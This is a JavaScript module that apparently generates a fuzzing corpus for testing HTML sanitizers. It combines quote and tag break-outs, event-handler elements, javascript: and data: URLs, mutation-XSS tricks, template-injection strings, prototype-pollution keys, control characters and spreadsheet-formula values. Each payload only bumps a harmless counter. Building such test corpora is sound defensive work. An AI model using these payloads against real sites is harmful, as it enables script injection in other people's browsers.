// Texts that would run script if a page took them for markup, an attribute, an address or code: a small grammar of our own
// (where the text lands × what breaks out of it × what would run), and a list of special ones. Each calls CALL when it runs.
export const CALL = 'globalThis.pwned=(globalThis.pwned||0)+1';

// What might have to be closed first: quotes, comments, elements with raw text.
const BREAKS = ['', '"', "'", '`', '">', "'>", '/>', '-->', '--!>', ']]>', '*/', '</style>', '</script>', '</textarea>', '</title>', '</noscript>', '</select>', '</svg>', '</template>', '\\"', '\\\'', '\n', '%22>', '&quot;>', '\u2028'];

// Elements that run something on an event of their own or when one is fired at them.
const TAGS = ['img', 'svg', 'body', 'video', 'audio', 'input', 'details', 'iframe', 'object', 'embed', 'marquee', 'select', 'textarea', 'button', 'form', 'style', 'link', 'source', 'track', 'math', 'dialog', 'area', 'x'];
const EVENTS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'onloadstart'];

// Whole constructions; each stands behind every third way of breaking out.
const WHOLE = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<a href="javascript:${CALL}">a</a>`,
  `<a href=" &#106;avascript:${CALL}">a</a>`,
  `<a href="java&Tab;script:${CALL}">a</a>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin="${CALL}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>a</text></a></svg>`,
  `<math><a href="javascript:${CALL}">a</a></math>`,
  `<form action="javascript:${CALL}"><button>a</button></form>`,
  `<button formaction="javascript:${CALL}">a</button>`,
  `<object data="javascript:${CALL}"></object>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<base href="javascript:/">`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${CALL}">`,
  `<template><img src=x:x onerror="${CALL}"></template>`,
  `<noscript><p title="</noscript><img src=x:x onerror='${CALL}'>">`,
];

const SPECIAL = [
  ...['javascript:', 'java\tscript:', 'java\nscript:', ' javascript:', 'JAVASCRIPT:', '\u0001javascript:', 'vbscript:', 'data:text/html,<script>', 'data:text/javascript,'].map((scheme) => `${scheme}${CALL}`),
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', 'then', 'innerHTML', 'onerror', 'srcdoc', 'href', 'style', 'is', 'slot', 'id', 'name'],
  ...['{{constructor.constructor("x")()}}', `\${${CALL}}`, `<%= ${CALL} %>`, `#{${CALL}}`, `[[${CALL}]]`, `@{${CALL}}`, '<!--?lit$0$-->', '{{lit-0}}', '<?lit$1$>', '<!---->'],
  ...['\u202eevil', '\u2066a\u2069', '\u200b', '\u200d', '\ufeff', '\u0000', '\u0008', '\u001b[31m', '\ud83d\ude00', '\ufffd', '\u00ad'],
  ...['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '\r\nDTSTART:1', 'BEGIN:VEVENT', '|x|y|', '[a](javascript:x)', '![a](x:x)', '<https://a.example>', '`', '```', '&lt;b&gt;', '&#60;b&#62;', '\\u003cscript\\u003e', '%3Cscript%3E'],
];

export function payloads() {
  const list = [];
  TAGS.forEach((tag, i) => {
    EVENTS.forEach((event, j) => {
      const out = BREAKS[(i * EVENTS.length + j) % BREAKS.length];
      list.push(`${out}<${tag} src=x:x href=x:x autofocus tabindex=0 ${event}="${CALL}">`);
      if (j % 2 === 0) list.push(`${out}<${tag}/${event}=${CALL}//`);
    });
  });
  for (const out of BREAKS) for (const event of ['onmouseover', 'onfocus', 'onerror']) list.push(`${out} ${event}=${CALL} autofocus tabindex=1 x=`);
  WHOLE.forEach((whole, i) => {
    BREAKS.forEach((out, j) => {
      if ((i + j) % 3 === 0) list.push(out + whole);
    });
  });
  return [...new Set([...list, ...SPECIAL])];
}
